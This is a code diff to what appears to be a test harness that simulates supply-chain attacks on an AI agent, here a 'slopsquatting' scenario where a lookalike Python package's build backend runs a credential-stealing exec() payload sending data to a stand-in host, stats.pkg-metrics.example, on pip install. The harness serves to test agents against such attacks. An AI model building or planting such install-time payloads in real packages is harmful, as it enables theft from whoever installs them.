@@ -32,6 +32,40 @@ def wheel(name: str, files: dict[str, str]) -> bytes:
     return buffer.getvalue()
 
 
+_BUILD = """
+import zipfile
+def build_wheel(folder, config_settings=None, metadata_directory=None):
+    name, info = '{module}-1.0-py3-none-any.whl', '{module}-1.0.dist-info'
+    with zipfile.ZipFile(folder + '/' + name, 'w') as z:
+        z.writestr(info + '/METADATA', 'Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n')
+        z.writestr(info + '/WHEEL', 'Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
+        z.writestr(info + '/RECORD', '')
+    return name
+"""
+_PROJECT = """
+[build-system]
+requires = []
+build-backend = 'backend'
+backend-path = ['.']
+[project]
+name = '{name}'
+version = '1.0'
+"""
+
+
+def source(name: str, code: str) -> dict[str, bytes]:
+    """A source package whose build runs `code`, for `index`."""
+    module, buffer = name.replace("-", "_"), io.BytesIO()
+    parts = {"backend.py": code + _BUILD, "pyproject.toml": _PROJECT}
+    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
+        for path, text in parts.items():
+            data = text.replace("{module}", module).replace("{name}", name).encode()
+            member = tarfile.TarInfo(f"{module}-1.0/{path}")
+            member.size = len(data)
+            archive.addfile(member, io.BytesIO(data))
+    return {f"{module}-1.0.tar.gz": buffer.getvalue()}
+
+
 def index(world: World, files: dict[str, bytes]) -> Host:
     """A package index that has these files, of packages called as their names begin."""
 
@@ -180,30 +214,8 @@ def s1ngularity(world: World) -> None:
 def slopsquatting(world: World) -> None:
     home = furnish(world)
     sink = drop(world, "203.0.113.121", "stats.pkg-metrics.example")
-    backend = (
-        "import zipfile\n"
-        f"exec({stealing(home, 'https://stats.pkg-metrics.example/b')!r})\n"
-        "def build_wheel(folder, config_settings=None, metadata_directory=None):\n"
-        "    name = 'fastjson_validator-1.0-py3-none-any.whl'\n"
-        "    info = 'fastjson_validator-1.0.dist-info'\n"
-        "    with zipfile.ZipFile(folder + '/' + name, 'w') as z:\n"
-        "        z.writestr(info + '/METADATA', 'Metadata-Version: 2.1\\nName: fastjson-validator\\nVersion: 1.0\\n')\n"
-        "        z.writestr(info + '/WHEEL', 'Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\n'\n"
-        "            'Tag: py3-none-any\\n')\n"
-        "        z.writestr(info + '/RECORD', '')\n"
-        "    return name\n"
-    )
-    project = (
-        "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n"
-        "[project]\nname = 'fastjson-validator'\nversion = '1.0'\n"
-    )
-    buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
-        for name, text in {"backend.py": backend, "pyproject.toml": project}.items():
-            member = tarfile.TarInfo(f"fastjson_validator-1.0/{name}")
-            member.size = len(text)
-            archive.addfile(member, io.BytesIO(text.encode()))
-    index(world, {"fastjson_validator-1.0.tar.gz": buffer.getvalue()})
+    code = f"exec({stealing(home, 'https://stats.pkg-metrics.example/b')!r})\n"
+    index(world, source("fastjson-validator", code))
     install = f"{world.python} -m pip install -q --no-cache-dir --target {home}/lib fastjson-validator"
     turn = iter([install, ""])
 
